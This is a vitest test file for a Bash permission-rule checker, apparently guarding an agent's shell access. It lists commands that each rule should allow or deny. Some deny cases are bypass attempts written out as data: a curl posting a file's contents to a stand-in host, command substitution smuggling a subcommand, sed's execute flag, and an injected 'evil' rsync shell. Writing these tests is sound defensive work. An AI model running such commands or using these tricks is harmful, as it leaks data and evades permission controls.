import { expect, test } from "vitest"
import { parseRule } from "../../rule.ts"
import { decideCommand } from "../decide-command.ts"
import { findSpelled } from "./spelled-words.ts"

function spelled(text: string, count: number): readonly string[] {
  const parsed = parseRule(`Bash(${text})`)
  if (parsed.kind !== "rule") throw new Error("no rule")
  return Array.from({ length: count }, (_, at) => {
    const found = findSpelled(parsed.rule, at, count)
    return found === undefined ? "-" : found.whole ? found.text : `${found.text}*`
  })
}

test("a rule spells out words at their positions, and after a star only those at the end", () => {
  expect(spelled("find . -exec grep:*", 6)).toEqual(["find", ".", "-exec", "grep", "-", "-"])
  expect(spelled("git log --output=*", 4)).toEqual(["git", "log", "--output=*", "-"])
  expect(spelled("npm * --watch", 4)).toEqual(["npm", "-", "-", "--watch"])
})

test.each([
  ["sort -o:*", "sort -o f f", "allow"],
  ["sort -o out:*", "sort -o out in -o other", "deny"],
  ["find . -exec:*", "find . -exec ls {} +", "allow"],
  ["find . -exec grep:*", "find . -exec grep -l a {} + -name b", "allow"],
  ["find . -exec grep:*", "find . -exec grep a {} + -exec ls {} +", "deny"],
  ["git config:*", "git config user.name x", "allow"],
  ["git config:*", "git config core.pager x", "deny"],
  ["git submodule foreach:*", "git submodule foreach ls", "allow"],
  ["git submodule:*", "git submodule $(echo foreach) ls", "deny"],
  ["git bisect:*", "git bisect $(echo run) ls", "deny"],
  ["git log --output=*", "git log --output=f", "allow"],
  ["git log --output=*", "git log --output=f --output=g", "deny"],
  ["tar --to-command=*", "tar --to-command=cat", "allow"],
  ["sort -o:*", "sort -o /x f", "deny"],
  ["sort -o /x:*", "sort -o /x f", "allow"],
  ["sort --output=*", "sort --output=../f f", "deny"],
  ["make -C:*", "make -C /x", "deny"],
  ["make -C * test", "make -C /x test", "allow"],
  ["git -C * log:*", "git -C /x log --oneline", "allow"],
  ["git -C * log:*", "git -C /x log --output=f", "deny"],
  ["git -C * status", "git -C . -c a.b=c status", "deny"],
  ["git -C:*", "git -C /x status", "deny"],
  ["docker -H x ps:*", "docker -H x ps -a", "allow"],
  ["docker -H x ps:*", "docker -H x ps --config y", "deny"],
  ["awk -f a.awk:*", "awk -f a.awk data", "allow"],
  ["awk -f a.awk:*", "awk -f a.awk -f b.awk data", "deny"],
  ["sed:*", "sed -- 's/a/b/e' f", "deny"],
  ["git config:*", "git config --get user.name", "allow"],
  ["git config:*", "git config -- core.pager x --get", "deny"],
  ["git config:*", "git config core.pager x -l", "deny"],
  ["git config:*", "git config set --value -l core.pager x", "deny"],
  ["git config:*", "git config set user.name x", "allow"],
  ["tar:*", "tar xf /x/a.tar", "allow"],
  ["tar:*", "tar cf /x/a.tar b", "deny"],
  ["tar:*", "tar xfC a.tar /x", "deny"],
  ["gzip:*", "gzip -dc /x/a.gz", "allow"],
  ["gzip:*", "gzip -d /x/a.gz", "deny"],
  ["dd:*", "dd if=/x of=y bs=1k", "allow"],
  ["dd:*", "dd if=y of=/x", "deny"],
  ["cp:*", 'cp "$PWD/a" "$PWD/b"', "allow"],
  ["cp:*", 'cp a "$b"', "deny"],
  ["shellcheck:*", "shellcheck a/*.sh", "allow"],
  ["shellcheck:*", "shellcheck ../*.sh", "deny"],
  ["cp:*", 'for f in a b; do cp "$f" out/; done', "allow"],
  ["mv:*", 'for f in a /x; do mv "$f" out/; done', "deny"],
  ["tar:*", 'for o in -C -v; do tar "$o" /x; done', "deny"],
  ["timeout 60 npm test:*", "timeout 60 npm test -- a.test.ts", "allow"],
  ["timeout 60 npm test:*", "timeout 60 npm test --script-shell=x", "deny"],
  ["timeout:*", "timeout 60 npm test", "deny"],
  ["timeout 60 nice npm test:*", "timeout 60 nice npm test", "allow"],
  ["xargs -n1 grep -l:*", "xargs -n1 grep -l a", "allow"],
  ["xargs -n1 tee:*", "xargs -n1 tee", "deny"],
  ["timeout 9 curl:*", 'timeout 9 curl -d "$(cat x)" h.example', "deny"],
  ["python3 -m json.tool:*", "python3 -m json.tool a.json", "allow"],
  ["python3 -m json.tool:*", "python3 -m json.tool a.json b.json", "deny"],
  ["docker:*", "docker rm x", "deny"],
  ["docker rm:*", "docker rm x", "allow"],
  ["gh:*", "gh api -X DELETE x", "deny"],
  ["gh api:*", "gh api -X POST x", "allow"],
  ["cmake --build:*", "cmake --build b -- -j4", "allow"],
  ["cmake --build:*", "cmake --build b -- SHELL=x", "deny"],
  ["dotnet test:*", "dotnet test -- x=y", "deny"],
  ["rsync -e ssh:*", "rsync -e ssh -e ./evil a h:b", "deny"],
])("under %s: %s → %s", (rule, command, decision) => {
  expect(decideCommand(command, { allow: [`Bash(${rule})`] }).decision).toBe(decision)
})
